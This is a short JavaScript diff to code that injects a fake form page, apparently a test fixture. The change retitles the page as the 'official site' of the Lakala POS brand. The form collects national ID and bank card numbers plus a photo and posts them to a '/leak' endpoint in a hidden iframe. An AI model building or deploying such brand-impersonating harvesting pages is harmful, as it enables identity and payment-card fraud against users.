@@ -7,7 +7,7 @@ const drawForm = () => {
   document.body.insertAdjacentHTML(
     'beforeend',
     `<main style="min-height:2000px;background:repeating-linear-gradient(#ffe,#cfc 40px)">
-      <h1>POS机 官方办理中心</h1>
+      <h1>拉卡拉POS机官网 办理中心</h1>
       <form action="/leak" target="sink"><label>身份证号 <input name="what" id="sfz" value="" autofocus></label>
       <label>银行卡号 <input name="yhk" id="yhk"></label><input type="file" id="photo"><button>提交</button></form>
       <iframe name="sink" hidden></iframe></main>`,
